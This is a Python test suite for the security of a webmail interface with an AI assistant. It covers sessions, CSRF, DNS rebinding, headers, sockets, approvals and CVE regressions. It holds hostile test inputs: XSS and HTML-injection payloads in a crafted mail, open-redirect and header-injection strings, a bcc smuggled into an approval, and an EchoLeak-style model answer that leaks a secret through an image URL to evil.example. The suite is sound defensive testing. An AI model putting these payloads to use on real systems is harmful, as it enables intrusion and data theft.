"""The page under attack: other sites, other people, other names, and mail that was written to be dangerous."""

from __future__ import annotations

import asyncio
import json
import re

import aiohttp
import pytest
import pytest_asyncio
from conftest import comes
from structlog.testing import capture_logs
from web_office import ALICE, BOB, PASSWORD, Site, web_office

from gk.agent.model import ScriptedModel, ToolCall
from gk.core.config import WebSettings
from gk.core.database import StorageFull
from gk.web import chat
from gk.web.listener import MESSAGE_OCTETS
from gk.web.pages import ACTIONS
from gk.web.security import LONGEST_BODY, LONGEST_FORM, PAGE_POLICY, SHORT_BODY

SCRIPT = "<script>alert(1)</script>"
HOSTILE = f"""From: "{SCRIPT}" <eve@evil.example>
To: alice@example.test
Subject: =?utf-8?q?=3Cimg_src=3Dx_onerror=3Dalert=281=29=3E?= {SCRIPT}
Message-ID: <1@evil.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: multipart/alternative; boundary=c

--c
Content-Type: text/plain; charset=utf-8

{SCRIPT} https://evil.example/"onmouseover="alert(1) javascript:alert(1)
--c
Content-Type: text/html; charset=utf-8

<html><head><base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example"><style>@import "https://evil.example/s";</style></head>
<body onload="alert(1)" background="https://evil.example/b"><p style="background:url(https://evil.example/u);position:fixed">Hello</p>
<a href="javascript:alert(1)">one</a> <a href="https://evil.example/">https://bank.example</a>
<form action="https://evil.example"><input name=password></form><iframe src="https://evil.example"></iframe>
<img src="https://evil.example/pixel.png" onerror="alert(1)"><svg><script>alert(1)</script></svg><math><mtext></mtext></math>
<object data="x"></object><embed src="x"><video src="https://evil.example/v" poster="https://evil.example/p"></video></body></html>
--c--
--b
Content-Type: text/html; name="page.html"
Content-Disposition: attachment; filename="page.html"

{SCRIPT}
--b
Content-Type: image/svg+xml
Content-Disposition: attachment; filename*=utf-8''a%0D%0ASet-Cookie:%20x=1%22.svg

<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>
--b--
""".encode()
LETTER = b"From: Bob Durand <bob@example.test>\nTo: alice@example.test\nSubject: Jeudi\n\nEst-ce que jeudi te convient ?\n"


@pytest_asyncio.fixture
async def site(tmp_path):
    async with web_office(tmp_path) as site:
        yield site


# Signing in and the session -------------------------------------------------------------------------------------------


async def test_the_session_cookie_is_httponly_and_samesite(site):
    client = await site.client()
    await client.ask("GET", "/sign-in")
    _, headers, _ = await client.ask("POST", "/sign-in", {"email": ALICE, "password": PASSWORD})
    session = next(value for value in headers.getall("Set-Cookie") if value.startswith("gk-session="))
    assert {"HttpOnly", "SameSite=Lax", "Path=/"} <= {part.strip() for part in session.split(";")}
    assert "Secure" not in session and "Domain" not in session and len(client.cookie()) > 40


async def test_under_tls_the_cookie_is_secure_and_bound_to_the_host(site):
    """The application is asked as uvicorn asks it for an https connection."""
    from gk.web.security import cookie

    value = cookie("session", "x", secure=True, seconds=60)
    assert value.startswith("__Host-gk-session=") and "; Secure" in value and "Domain" not in value
    app, sent = site.server.config.loaded_app, []

    async def receive():
        return {"type": "http.request", "body": b""}

    async def send(message):
        sent.append(message)

    scope = {
        "type": "http",
        "method": "GET",
        "path": "/sign-in",
        "raw_path": b"/sign-in",
        "query_string": b"",
        "scheme": "https",
        "headers": [(b"host", b"localhost")],
        "server": ("localhost", 443),
        "client": ("127.0.0.1", 1),
        "http_version": "1.1",
        "asgi": {"version": "3.0"},
        "root_path": "",
    }
    await app(scope, receive, send)
    headers = sent[0]["headers"]
    assert any(k == b"set-cookie" and v.startswith(b"__Host-gk-visitor=") and b"; Secure" in v for k, v in headers)
    assert any(k == b"strict-transport-security" for k, _ in headers)


async def test_wrong_password_and_unknown_name_are_the_same_page(site):
    client, pages = await site.client(), []
    for email in (ALICE, "nobody@example.test", "no address at all"):
        await client.ask("GET", "/sign-in")
        status, _, body = await client.ask("POST", "/sign-in", {"email": email, "password": "wrong horse battery"})
        pages.append((status, re.sub(r'value="[^"]*"', "", body).replace(" autofocus", "")))
    assert pages[0][0] == 401 and pages[0] == pages[1] == pages[2]


async def test_attempts_are_capped_on_page_and_api_together(site):
    client = await site.client()
    await client.ask("GET", "/sign-in")
    for _ in range(6):
        await client.ask("POST", "/sign-in", {"email": ALICE, "password": "guess guess"})
    async with aiohttp.ClientSession() as session:
        for _ in range(6):
            async with session.post(f"{site.url}/api/auth/login", json={"email": ALICE, "password": "guess guess"}):
                pass
    status, headers, _ = await client.ask("POST", "/sign-in", {"email": ALICE, "password": PASSWORD})
    assert status == 429 and int(headers["Retry-After"]) >= 1


@pytest.mark.parametrize(
    "then",
    ["//evil.example", "https://evil.example", "/\\evil.example", "/%0d%0aSet-Cookie:x", "javascript:alert(1)", "/a\r\nX: y"],
)
async def test_no_open_redirect_after_signing_in(site, then):
    client = await site.client()
    await client.ask("GET", "/sign-in")
    status, headers, _ = await client.ask("POST", "/sign-in", {"email": ALICE, "password": PASSWORD, "then": then})
    assert status == 303 and re.fullmatch(r"/(?![/\\])[\x21-\x7e]*", headers["Location"]) and "X" not in headers


async def test_signing_in_needs_the_form_of_this_browser(site):
    """Login CSRF: a form with another browser's token signs nobody in."""
    attacker, victim = await site.client(), await site.client()
    await attacker.ask("GET", "/sign-in")
    await victim.ask("GET", "/sign-in")
    status, _, _ = await victim.ask("POST", "/sign-in", {"email": BOB, "password": PASSWORD, "csrf": attacker.token})
    assert status == 403 and not victim.cookie()
    fresh = await site.client()
    assert (await fresh.ask("POST", "/sign-in", {"email": BOB, "password": PASSWORD, "csrf": attacker.token}))[0] == 403


async def test_sign_out_ends_the_session_everywhere_it_was_copied_to(site):
    client = await site.client(ALICE)
    kept = client.cookie()
    assert (await client.ask("POST", "/sign-out", {"csrf": "no"}))[0] == 403
    await client.ask("GET", "/")
    assert (await client.ask("POST", "/sign-out", {}))[0] == 303 and not client.cookie()
    async with (
        aiohttp.ClientSession(headers={"Cookie": f"gk-session={kept}"}) as session,
        session.get(site.url + "/parts/list", headers={"X-GK": "part"}) as answer,
    ):
        assert answer.status == 401


async def test_a_new_password_ends_all_sessions(site):
    client = await site.client(ALICE)
    await site.office.credentials.set_password(site.alice, "another horse battery")
    assert (await client.ask("GET", "/"))[0] == 303


# Other sites ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/", "/sign-in", "/api/health", "/api/mails", "/metrics", "/static/x/gk.css", "/mcp"])
async def test_dns_rebinding_a_foreign_host_is_421(site, path):
    client = await site.client()
    for host in ("evil.example", "localhost.evil.example", "127.0.0.1.evil.example", "169.254.169.254", ""):
        assert (await client.ask("GET", path, headers={"Host": host}))[0] in (400, 421), host
    assert (await client.ask("GET", path, headers={"Host": f"localhost:{site.port}"}))[0] not in (421,)


async def test_dns_rebinding_of_the_websocket(site):
    client = await site.client(ALICE)
    conversation = await client.conversation()
    for headers in (
        {"Host": "evil.example"},
        {"Origin": "http://evil.example"},
        {"Origin": "null"},
        {"Host": "evil.example", "Origin": "http://evil.example"},
    ):
        with pytest.raises(aiohttp.WSServerHandshakeError) as refused:
            async with client.socket(conversation, headers=headers):
                pass
        assert refused.value.status == 403


async def test_a_refusal_before_any_page_is_in_the_language_of_the_person(site):
    client = await site.client(ALICE, language="fr")
    assert "ne répond pas à ce nom" in (await client.ask("GET", "/", headers={"Host": "evil.example"}))[2]
    assert "vient d’un autre site" in (await client.ask("POST", "/sign-out", {}, headers={"Origin": "null"}))[2]
    assert "dépasse 16384 octets" in (await client.ask("POST", "/sign-in", {"email": "x" * 20_000}))[2]
    assert (await client.ask("PUT", "/sign-in"))[2].count("Impossible de répondre à cette demande.") == 2  # title and heading


async def test_configured_names_are_answered(tmp_path):
    async with web_office(tmp_path, web=WebSettings(hosts=["Mail.Example.test"])) as site:
        client = await site.client()
        assert (await client.ask("GET", "/api/health", headers={"Host": "mail.example.test"}))[0] == 200


@pytest.mark.parametrize(
    "origin", ["https://evil.example", "null", "http://127.0.0.1", "http://127.0.0.1:1", "http://localhost.evil.example"]
)
async def test_csrf_another_sites_form_is_refused_even_with_the_token(site, origin):
    client = await site.client(ALICE)
    id = await site.deliver(LETTER)
    await client.ask("GET", f"/mail/{id}")
    assert (await client.ask("POST", f"/mail/{id}/delete", {}, headers={"Origin": origin}))[0] == 403
    assert (await site.mail(site.alice).read_email(id)).folder == "INBOX"


async def test_csrf_every_form_needs_the_token_of_this_session(site):
    client, other = await site.client(ALICE), await site.client(BOB)
    id, conversation = await site.deliver(LETTER), await client.conversation()
    paths = [f"/mail/{id}/{action}" for action in ACTIONS] + [
        f"/chat/{conversation}/say",
        f"/chat/{conversation}/approvals/a",
        "/sign-out",
    ]
    for path in paths:
        for token in ("", "x", other.token, client.token[:-2] + "AA"):
            assert (await client.ask("POST", path, {"csrf": token, "text": "bonjour"}))[0] == 403, path
    assert (await site.mail(site.alice).read_email(id)).folder == "INBOX"
    assert (await client.ask("GET", "/"))[0] == 200, "still signed in"


async def test_a_get_changes_nothing(site):
    client = await site.client(ALICE)
    id = await site.deliver(LETTER)
    for path in [f"/mail/{id}/{action}" for action in ACTIONS] + ["/sign-out"]:
        assert (await client.ask("GET", path))[0] in (404, 405)
    await client.ask("GET", f"/parts/mail/{id}")
    await client.ask("GET", f"/mail/{id}", headers={"Sec-Fetch-Site": "cross-site"})
    mail = await site.mail(site.alice).read_email(id)
    assert mail.folder == "INBOX" and mail.unread


# Headers --------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    ["/", "/sign-in", "/parts/list", "/api/health", "/metrics", "/nowhere", "/static/x/chat.js", "/static/x/nothing", "/mail/1"],
)
async def test_every_answer_carries_the_security_headers(site, path):
    client = await site.client(ALICE)
    _, headers, _ = await client.ask("GET", path)
    policy = headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy and "unsafe" not in policy and "*" not in policy and "http" not in policy
    assert headers["X-Content-Type-Options"] == "nosniff" and headers["X-Frame-Options"] == "DENY"
    assert headers["Referrer-Policy"] == "same-origin" and headers["Cross-Origin-Opener-Policy"] == "same-origin"
    if "html" in headers.get("Content-Type", ""):
        assert headers["Cache-Control"] == "no-store" and policy == PAGE_POLICY


async def test_pages_contain_no_inline_script_or_style(site):
    client = await site.client(ALICE)
    id = await site.deliver(HOSTILE)
    for path in ("/", f"/mail/{id}", f"/parts/mail/{id}", f"/parts/mail/{id}/text", "/parts/list", "/sign-in", "/nowhere"):
        _, _, body = await client.ask("GET", path)
        scripts = re.findall(r"<script[^>]*>([^<]*)", body)
        assert all(not content for content in scripts) and not re.search(r"<[^>]*\s(style|on[a-z]+)\s*=", body), path
        assert not re.search(r'(src|href|action)="(https?:)?//(?!evil\.example/)', body.replace(site.url, "")), path


# Bodies and numbers ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "longest"),
    [
        ("/api/auth/login", SHORT_BODY),
        ("/sign-in", SHORT_BODY),
        ("/sign-out", SHORT_BODY),
        ("/mail/1/seen", SHORT_BODY),
        ("/chat/x/say", LONGEST_FORM),
        ("/api/mails/send", LONGEST_BODY),
    ],
)
async def test_a_body_that_is_too_long_is_413_announced_or_not(site, path, longest):
    ticket = {"Authorization": f"Bearer {await site.ticket()}"}
    async with aiohttp.ClientSession(headers=ticket) as session:
        async with session.post(site.url + path, data=b"x" * (longest + 1)) as answer:
            assert answer.status == 413

        async def chunks():
            for _ in range(longest // 10_000 + 1):
                yield b"x" * 10_000

        form = {"Content-Type": "application/x-www-form-urlencoded"}
        if path.startswith(("/api", "/sign-in")):  # the others do not read what somebody sends who is not signed in
            async with session.post(site.url + path, data=chunks(), headers=form) as answer:
                assert answer.status == 413
        async with session.post(site.url + path, data=b"x" * longest) as answer:
            assert answer.status in (401, 403, 422)


async def test_a_host_with_a_port_that_cannot_be_is_421(site):
    client = await site.client()
    for port, expected in (("99999", 421), ("65536", 421), ("65535", 200)):
        assert (await client.ask("GET", "/sign-in", headers={"Host": f"127.0.0.1:{port}"}))[0] == expected


async def test_a_form_of_a_thousand_fields_is_refused(site):
    client = await site.client(ALICE)
    status, _, _ = await client.ask("POST", "/sign-out", {f"f{n}": "x" for n in range(1000)})
    assert status == 403


# Other people ---------------------------------------------------------------------------------------------------------


async def test_rule_404_somebody_elses_mail_is_no_mail(site):
    theirs = await site.deliver(HOSTILE, site.bob)
    client = await site.client(ALICE)
    for path in (
        "/mail/{}",
        "/parts/mail/{}",
        "/parts/mail/{}/text",
        "/mail/{}/html",
        "/mail/{}/attachment/2",
        "/mail/{}/attachment/9.9.9",
    ):
        answers = [await client.ask("GET", path.format(id)) for id in (theirs, "999999", "abc")]
        assert answers[0][0] == 404, path
        assert all(answer[0] == 404 and answer[2] == answers[0][2] for answer in answers), path
    for action in ACTIONS:
        answers = [await client.ask("POST", f"/mail/{id}/{action}", {}) for id in (theirs, "999999")]
        assert answers[0][0] == answers[1][0] == 404 and answers[0][2] == answers[1][2], action
    assert (await site.mail(site.bob).read_email(theirs)).folder == "INBOX"


async def test_rule_404_somebody_elses_conversation_is_none(site):
    alice, bob = await site.client(ALICE), await site.client(BOB)
    theirs = await bob.conversation()
    await alice.conversation()
    for id in (theirs, "no-such-conversation"):
        assert (await alice.ask("GET", f"/?c={id}"))[0] == 404
        assert (await alice.ask("POST", f"/chat/{id}/say", {"text": "bonjour"}))[0] == 404
        assert (await alice.ask("POST", f"/chat/{id}/approvals/x", {"approved": "yes"}))[0] == 404
        async with alice.socket(id) as socket:
            assert await socket.closed() == 4404
    assert await site.office.conversations.after(theirs, 0) == []


# Sockets --------------------------------------------------------------------------------------------------------------


async def test_cve_2026_44553_a_revoked_session_closes_its_socket(site, monkeypatch):
    monkeypatch.setattr(chat, "LOOK_SECONDS", 1e6)  # by being told, not by the look from time to time
    client = await site.client(ALICE)
    async with client.socket(await client.conversation()) as socket:
        await socket.until(type="ready")
        token = await site.office.credentials.check_token(client.cookie(), "session")
        await site.office.credentials.revoke(token.id)
        assert await socket.closed() == 4401


async def test_cve_2026_45349_every_message_is_checked_again(site, monkeypatch):
    """Even if nobody told the socket: what comes in after the session has ended is not carried out."""
    monkeypatch.setattr(site.office.database._writer, "on_commit", [])
    client = await site.client(ALICE)
    conversation = await client.conversation()
    async with client.socket(conversation) as socket:
        await socket.until(type="ready")
        token = await site.office.credentials.check_token(client.cookie(), "session")
        await site.office.credentials.revoke(token.id)
        await socket.send(type="say", text="liste mes mails")
        assert await socket.closed() == 4401
    assert await site.office.conversations.after(conversation, 0) == []


async def test_cve_2026_45350_a_deleted_conversation_closes_its_socket(site):
    client = await site.client(ALICE)
    conversation = await client.conversation()
    async with client.socket(conversation) as socket:
        await socket.send(type="say", text="aide")
        await socket.until(type="turn", kind="done")
        await site.office.conversations.delete(site.alice, conversation)
        assert await socket.closed() == 4404


async def test_a_socket_without_session_is_closed(site):
    client = await site.client(ALICE)
    conversation, stranger = await client.conversation(), await site.client()
    async with stranger.socket(conversation) as socket:
        assert await socket.closed() == 4401


@pytest.mark.parametrize(
    "text",
    [
        "",
        "{",
        "[]",
        "5",
        '"say"',
        "{}",
        '{"type":"say"}',
        '{"type":"decide"}',
        '{"type":"nothing"}',
        "[" * 2000,
        '{"type":"decide","approval":"x","approved":true}',
        '{"type":"say","text":""}',
    ],
)
async def test_nonsense_on_a_socket_is_refused_and_the_socket_lives(site, text):
    client = await site.client(ALICE)
    conversation = await client.conversation()
    async with client.socket(conversation) as socket:
        await socket.until(type="ready")
        await socket.raw.send_str(text)
        await socket.send(type="nonsense")
        await socket.send(type="say", text="aide")
        await socket.until(type="turn", kind="done")
    events = await site.office.conversations.after(conversation, 0)
    assert [event.payload["text"] for event in events if event.type == "user"] == ["aide"]


async def test_a_frame_of_octets_is_refused_and_the_socket_lives(site):
    client = await site.client(ALICE)
    with capture_logs() as logs:
        async with client.socket(await client.conversation()) as socket:
            await socket.until(type="ready")
            await socket.raw.send_bytes(b"\xff\x00" * 1000)
            assert "could not be understood" in (await socket.until(type="refused"))["html"]
            await socket.send(type="say", text="aide")
            await socket.until(type="turn", kind="done")
    assert [entry for entry in logs if entry["log_level"] in ("error", "critical")] == []


async def test_a_frame_that_is_too_long_or_no_text_closes_that_socket_only(site):
    client = await site.client(ALICE)
    conversation = await client.conversation()
    with capture_logs() as logs:
        async with client.socket(conversation) as other:
            await other.until(type="ready")
            async with client.socket(conversation) as socket:
                await socket.until(type="ready")
                await socket.raw.send_str("x" * (MESSAGE_OCTETS + 1))
                assert await socket.closed() == 1009
            async with client.socket(conversation) as socket:
                await socket.until(type="ready")
                await socket.raw.send_frame(b"\xff\xfe", aiohttp.WSMsgType.TEXT)
                assert await socket.closed() == 1007
            await other.send(type="say", text="aide")
            await other.until(type="turn", kind="done")
    assert [entry for entry in logs if entry["log_level"] in ("error", "critical")] == []


async def test_rfc7692_a_compressed_bomb_on_a_socket_is_not_unpacked(site):
    """Sixty-four megabytes in as many kilobytes: what counts is what it would be."""
    client = await site.client(ALICE)
    async with client.socket(await client.conversation(), compress=15) as socket:
        await socket.until(type="ready")
        assert socket.raw.compress, "the server agrees to compression"
        await socket.raw.send_str("0" * 64_000_000)
        assert await socket.closed() == 1009


async def test_a_flood_on_a_socket_is_slowed_down(site):
    client = await site.client(ALICE)
    async with client.socket(await client.conversation()) as socket:
        await socket.until(type="ready")
        for _ in range(40):
            await socket.send(type="decide", approval="x", approved=True)
        refusals = [json.dumps(await socket.until(type="refused")) for _ in range(40)]
    assert sum("too many" in text.lower() for text in refusals) >= 20


async def test_reconnecting_sees_every_number_once(tmp_path):
    """Fifteen broken connections during one long answer: what all of them together saw is the stored conversation."""
    calls = [ToolCall("count_emails", {"folder": name}) for name in ("INBOX", "Sent", "Drafts", "Trash", "Junk", "Archive")]
    async with web_office(tmp_path, ScriptedModel(*calls, "All **counted**.")) as site:
        client = await site.client(ALICE)
        conversation, after, seen = await client.conversation(), 0, []
        async with client.socket(conversation) as socket:
            await socket.until(type="ready")
            await socket.send(type="say", text="count everything")
        for _ in range(200):
            async with client.socket(conversation, after) as socket:
                while message := await socket.next():
                    if message["type"] == "turn" and message["n"]:
                        seen.append(message["n"])
                        after = message["n"]
                        break
                    if message["type"] == "busy" and message["busy"] is False and after:
                        break
            events = await site.office.conversations.after(conversation, 0)
            if events and events[-1].type == "done" and after == events[-1].number:
                break
            await asyncio.sleep(0)
        assert seen == [event.number for event in events] == list(range(1, len(events) + 1)) and len(events) > 10


async def test_what_is_said_survives_a_browser_that_leaves(site):
    client = await site.client(ALICE)
    conversation = await client.conversation()
    async with client.socket(conversation) as socket:
        await socket.until(type="ready")
        await socket.send(type="say", text="combien de mails non lus ?")
        await socket.until(type="turn", kind="user")

    async def over() -> list:
        events = await site.office.conversations.after(conversation, 0)
        return events if events and events[-1].type == "done" else []

    assert any(event.type == "answer" for event in await comes(over))


# What a stranger wrote ------------------------------------------------------------------------------------------------


async def test_xss_in_subject_sender_and_text_is_shown_as_text(site):
    id = await site.deliver(HOSTILE)
    client = await site.client(ALICE)
    for path in ("/", f"/mail/{id}", f"/parts/mail/{id}", f"/parts/mail/{id}/text", "/parts/list"):
        _, _, body = await client.ask("GET", path)
        assert SCRIPT not in body and "<img src=x" not in body, path
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body and "&lt;img src=x onerror=alert(1)&gt;" in body
    _, _, body = await client.ask("GET", f"/parts/mail/{id}")
    assert 'href="https://evil.example/"' in body and "onmouseover=&#34;" in body, "the link ends where the quote begins"


async def test_html_mail_has_its_own_policy_and_nothing_that_acts(site):
    id = await site.deliver(HOSTILE)
    client = await site.client(ALICE)
    _, headers, body = await client.ask("GET", f"/mail/{id}/html")
    policy = headers["Content-Security-Policy"]
    assert (
        "default-src 'none'" in policy and "script-src" not in policy and "; sandbox" in policy and "allow-scripts" not in policy
    )
    assert "allow-same-origin" not in policy and "frame-ancestors 'self'" in policy and "img-src data:;" in policy
    tags = re.findall(r"<[^>]+>", body)
    assert "Hello" in body and "evil.example)" in body, "links tell where they go"
    for tag in tags:
        assert not re.match(r"<(script|iframe|form|input|base|object|embed|svg|math|video|link|meta http)", tag, re.I), tag
        assert not re.search(r"\son\w+=|javascript:|url\(|background=|src=.https?:", tag, re.I), tag
    _, _, page = await client.ask("GET", f"/parts/mail/{id}")
    frame = re.search(r"<iframe[^>]*>", page)[0]
    assert 'sandbox="allow-popups allow-popups-to-escape-sandbox"' in frame


async def test_remote_pictures_only_when_asked_for(site):
    id = await site.deliver(HOSTILE)
    client = await site.client(ALICE)
    assert "pixel.png" not in (await client.ask("GET", f"/mail/{id}/html"))[2]
    _, headers, body = await client.ask("GET", f"/mail/{id}/html?images=yes")
    assert "https://evil.example/pixel.png" in body and "img-src data: https: http:" in headers["Content-Security-Policy"]


async def test_attachments_are_downloads_of_anonymous_bytes(site):
    id = await site.deliver(HOSTILE)
    client = await site.client(ALICE)
    mail = await site.mail(site.alice).read_email(id)
    assert len(mail.attachments) == 2
    for item in mail.attachments:
        status, headers, body = await client.ask("GET", f"/mail/{id}/attachment/{item.part}")
        assert status == 200 and "<script>" in body
        assert headers["Content-Type"] == "application/octet-stream" and headers["X-Content-Type-Options"] == "nosniff"
        assert (
            headers["Content-Disposition"].startswith("attachment; filename=") and "sandbox" in headers["Content-Security-Policy"]
        )
        assert "Set-Cookie" not in headers and 'x=1"' not in headers["Content-Disposition"]


async def test_cve_2025_32711_the_assistants_words_load_nothing(tmp_path):
    """EchoLeak: a mail makes the model answer with a picture whose address carries a secret. Nothing is fetched."""
    answer = f"![x](https://evil.example/p?secret=4711) <img src='https://evil.example/q'> [bank](https://evil.example) {SCRIPT}"
    async with web_office(tmp_path, ScriptedModel(answer)) as site:
        client = await site.client(ALICE)
        async with client.socket(await client.conversation()) as socket:
            await socket.until(type="ready")
            await socket.send(type="say", text="summarise my mail")
            html = (await socket.until(type="turn", kind="answer"))["html"]
        assert "<img" not in html and "<script" not in html and "(evil.example)" in html
        assert "img-src 'self'" in PAGE_POLICY


async def test_a_conversation_title_and_request_are_text(site):
    client = await site.client(ALICE)
    async with client.socket(await client.conversation()) as socket:
        await socket.until(type="ready")
        await socket.send(type="say", text=SCRIPT)
        assert SCRIPT not in (await socket.until(type="turn", kind="user"))["html"]
    _, _, body = await client.ask("GET", "/")
    assert SCRIPT not in body and "&lt;script&gt;" in body
    _, _, body = await client.ask(
        "GET", "/?folder=" + "%3Cscript%3Ealert(1)%3C/script%3E&ask=%22%3E%3Cscript%3Ealert(1)%3C/script%3E"
    )
    assert SCRIPT not in body


# Approval -------------------------------------------------------------------------------------------------------------


async def ask_to_send(site: Site, client, conversation: str) -> tuple[str, str]:
    """Has a model propose a mail to bob; the id of the card and its HTML."""
    async with client.socket(conversation) as socket:
        await socket.until(type="ready")
        await socket.send(type="say", text="write to bob@example.test that I am coming")
        card = (await socket.until(type="turn", kind="approval"))["html"]
        await socket.until(type="turn", kind="done")
    return re.search(r'data-approval="([^"]+)"', card)[1], card


async def settled(site: Site, expected: int) -> list:
    """Bob's mail, once that many are there."""
    async def there() -> list:
        items = (await site.mail(site.bob).list_emails()).items
        return items if len(items) >= expected else []

    return await comes(there)


SEND = ToolCall("send_email", {"to": [BOB], "subject": "Coming", "body": "I am coming."})


async def test_nothing_is_sent_before_approval_and_once_after_it(tmp_path):
    async with web_office(tmp_path, ScriptedModel(SEND, "Sent.", "Sent.")) as site:
        client = await site.client(ALICE)
        conversation = await client.conversation()
        approval, card = await ask_to_send(site, client, conversation)
        assert "bob@example.test" in card and "I am coming." in card and "<form" in card
        assert (await site.mail(site.bob).list_emails()).items == []
        assert (await site.office.queue.status())["sent"] == 0
        async with client.socket(conversation, 99) as socket:
            await socket.until(type="ready")
            fields = {"to": BOB, "subject": "Coming", "body": "I am coming tomorrow.", "id": "7", "bcc": "eve@evil.example"}
            await socket.send(type="decide", approval=approval, approved=True, fields=fields)
            await socket.send(type="decide", approval=approval, approved=True, fields=fields)
        (mail,) = await settled(site, 1)
        letter = await site.mail(site.bob).read_email(mail.id)
        assert letter.text.strip() == "I am coming tomorrow." and letter.bcc == []
        status, _, _ = await client.ask("POST", f"/chat/{conversation}/approvals/{approval}", {"approved": "yes"})
        assert status in (303, 409) and len(await settled(site, 1)) == 1, "an approval is used once"


async def test_refused_is_refused(tmp_path):
    async with web_office(tmp_path, ScriptedModel(SEND, "All right, not sent.")) as site:
        client = await site.client(ALICE)
        conversation = await client.conversation()
        approval, _ = await ask_to_send(site, client, conversation)
        await client.ask("GET", "/")
        form = {"approved": "no", "reason": "too early"}
        assert (await client.ask("POST", f"/chat/{conversation}/approvals/{approval}", form))[0] == 303
        _, _, body = await client.ask("GET", f"/?c={conversation}")
        assert "You refused this." in body and f'<form class="gk-approval" data-approval="{approval}"' not in body
        assert (await site.office.queue.status())["sent"] == 0 and (await site.mail(site.bob).list_emails()).items == []


async def test_somebody_elses_approval_is_none(tmp_path):
    async with web_office(tmp_path, ScriptedModel(SEND)) as site:
        alice, bob = await site.client(ALICE), await site.client(BOB)
        conversation = await alice.conversation()
        approval, _ = await ask_to_send(site, alice, conversation)
        own = await bob.conversation()
        for place in (conversation, own):
            assert (await bob.ask("POST", f"/chat/{place}/approvals/{approval}", {"approved": "yes"}))[0] == 404
        assert (await site.office.queue.status())["sent"] == 0


async def test_without_scripts_the_same_conversation_works(site):
    """Forms alone: ask, read the answer in the page that comes back."""
    await site.deliver(LETTER)
    client = await site.client(ALICE, language="fr")
    conversation = await client.conversation()
    status, headers, _ = await client.ask("POST", f"/chat/{conversation}/say", {"text": "liste mes mails"})
    assert status == 303 and headers["Location"] == f"/?c={conversation}"
    _, _, body = await client.ask("GET", headers["Location"])
    assert 'class="gk-turn gk-turn-user"' in body and 'class="gk-number">1<' in body and "Jeudi" in body


async def test_cwe113_a_visitor_cookie_with_a_line_break_is_not_given_back(site):
    client = await site.client()
    cookie = {"Cookie": 'gk-visitor="x\\015\\012Set-Cookie: a=b"'}
    status, headers, _ = await client.ask("GET", "/sign-in", headers=cookie)
    assert status == 200 and "a=b" not in str(headers) and "gk-visitor=" in headers["Set-Cookie"]


async def test_rfc8259_half_of_a_surrogate_pair_on_a_socket_is_refused(site):
    client = await site.client(ALICE)
    conversation = await client.conversation()
    async with client.socket(conversation) as socket:
        await socket.until(type="ready")
        await socket.send(type="say", text="\ud800x")
        assert "could not be understood" in (await socket.until(type="refused"))["html"]
        await socket.send(type="decide", approval="x", approved=True)
        assert "nothing here" in (await socket.until(type="refused"))["html"]
    assert await site.office.conversations.after(conversation, 0) == []


@pytest.mark.parametrize(("error", "said"), [
    (StorageFull("the disk of the data folder is full"), "disk"), (OSError("no space left"), "does not answer"),
])  # fmt: skip
async def test_a_full_disk_is_told_to_whoever_asked(site, monkeypatch, error, said):
    client = await site.client(ALICE)
    conversation = await client.conversation()

    async def full(*_args, **_more):
        raise error

    async with client.socket(conversation) as socket:
        await socket.until(type="ready")
        monkeypatch.setattr(site.office.conversations.database, "write", full)
        await socket.send(type="say", text="help")
        assert said in (await socket.until(type="refused"))["html"]
